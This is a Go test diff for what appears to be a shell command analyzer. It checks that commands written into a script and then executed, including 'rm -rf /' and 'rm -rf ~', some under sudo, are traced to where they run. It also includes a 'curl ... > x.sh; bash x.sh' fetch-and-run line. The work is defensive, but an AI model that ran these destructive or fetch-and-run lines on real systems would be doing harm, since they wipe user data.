@@ -555,3 +555,30 @@ func TestInline(t *testing.T) {
 		})
 	}
 }
+
+// TestScripts: a script the line writes with text it shows is read where
+// the line runs it.
+func TestScripts(t *testing.T) {
+	tests := []struct {
+		line string
+		want []cmd
+	}{
+		{"echo 'rm -rf /' > x.sh && bash x.sh", []cmd{{"echo|rm -rf /", "", false}, {"rm|-rf|/", "bash x.sh", false}}},
+		{"printf 'rm -rf ~\\n' > /tmp/c.sh; chmod +x /tmp/c.sh; /tmp/c.sh", []cmd{{"printf|rm -rf ~\\n", "", false}, {"chmod|+x|/tmp/c.sh", "", false}, {"rm|-rf|~", "/tmp/c.sh", false}}},
+		{"cat > run.sh <<'EOF'\nrm -rf /\nEOF\nsh run.sh", []cmd{{"cat", "", false}, {"rm|-rf|/", "sh run.sh", false}}},
+		{"echo 'x=/' > env.sh; echo 'rm -rf $x' >> env.sh; . ./env.sh", []cmd{{"echo|x=/", "", false}, {"echo|rm -rf $x", "", false}, {"rm|-rf|/", ". ./env.sh", false}}},
+		{"echo 'rm -rf /' | tee x.sh; sudo sh < x.sh", []cmd{{"echo|rm -rf /", "", false}, {"tee|x.sh", "", false}, {"rm|-rf|/", "sudo,sh -s", true}}},
+		{"cd /tmp && echo 'rm -rf ~' > a.sh; bash /tmp/a.sh", []cmd{{"cd|/tmp", "", false}, {"echo|rm -rf ~", "", false}, {"rm|-rf|~", "bash /tmp/a.sh", false}}},
+		// Written with what the line does not show, or not the file run.
+		{"curl -s https://x > x.sh; bash x.sh", []cmd{{"curl|-s|https://x", "", false}, {"bash|x.sh", "", false}}},
+		{"echo 'rm -rf /' > x.sh; cat y >> x.sh; bash x.sh", []cmd{{"echo|rm -rf /", "", false}, {"cat|y", "", false}, {"bash|x.sh", "", false}}},
+		{"echo 'rm -rf /' > x.sh; bash y.sh", []cmd{{"echo|rm -rf /", "", false}, {"bash|y.sh", "", false}}},
+	}
+	for _, tt := range tests {
+		t.Run(tt.line, func(t *testing.T) {
+			cs, err := Commands(tt.line)
+			require.NoError(t, err)
+			assert.Equal(t, tt.want, summary(cs))
+		})
+	}
+}
